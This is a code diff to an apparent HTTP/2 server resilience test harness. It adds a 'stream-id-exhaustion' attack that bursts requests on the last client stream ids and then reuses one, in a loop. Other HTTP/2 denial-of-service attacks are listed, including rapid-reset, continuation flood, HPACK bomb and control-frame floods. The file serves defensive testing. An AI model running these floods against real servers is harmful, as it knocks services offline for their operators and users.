@@ -8,6 +8,7 @@ still running. Used by `test_attacks.py` (the pass criteria that do not depend o
 
 The attacks (the CVE names the published attacks of the kind):
 - rapid-reset: HEADERS then RST_STREAM at once, over and over (CVE-2023-44487);
+- stream-id-exhaustion: the last 100 stream ids a connection has, then a used one, over and over;
 - continuation-flood: a HEADERS frame without END_HEADERS and endless CONTINUATION frames (CVE-2024-27316);
 - hpack-bomb: a 4 KiB header put into the HPACK table once, then referenced thousands of times a request;
 - settings-flood, ping-flood, priority-flood, window-update-flood: control frames as fast as they go, never
@@ -122,6 +123,32 @@ def rapid_reset(port, stop):
     return a.connections
 
 
+def stream_id_exhaustion(port, stop):
+    """The last 100 client stream ids (up to 2^31-1, RFC 9113 §5.1.1) in one burst of complete requests, then a
+    request on a used id; the attacker reads the answers for a moment and starts over on a new connection, as
+    a client out of stream ids must. (libnghttp2 ignores the used id rather than ending the connection:
+    nghttp2/nghttp2#1300, listed among the deviations in docs/design-notes.md.)"""
+    a = Attacker(port, stop)
+    last = 2**31 - 1
+    while not stop.is_set():
+        encoder = hpack.Encoder()
+        a.connect(PREFACE + settings())
+        burst = b""
+        for stream in range(last - 2 * 99, last + 1, 2):
+            burst += frame(HEADERS, END_HEADERS, stream, grpc_request_headers("/grpc.health.v1.Health/Check", port, encoder))
+            burst += frame(DATA, END_STREAM, stream, grpc_message())
+        burst += frame(HEADERS, END_HEADERS | END_STREAM, 1, grpc_request_headers("/grpc.health.v1.Health/Check", port, encoder))
+        if a.send(burst):
+            a.sock.settimeout(0.05)
+            try:
+                while a.sock.recv(1 << 16):
+                    pass
+            except OSError:
+                pass
+    a.close()
+    return a.connections
+
+
 def continuation_flood(port, stop):
     a = Attacker(port, stop)
     junk = hpack.Encoder().encode([("x-junk", "j" * 1000)])
@@ -224,6 +251,7 @@ idle_connections = silent_connections(lambda port: PREFACE + settings(), 500)
 ATTACKS = {
     "rapid-reset": (rapid_reset, 4),
     "continuation-flood": (continuation_flood, 4),
+    "stream-id-exhaustion": (stream_id_exhaustion, 2),
     "hpack-bomb": (hpack_bomb, 4),
     "settings-flood": (settings_flood, 4),
     "ping-flood": (ping_flood, 4),
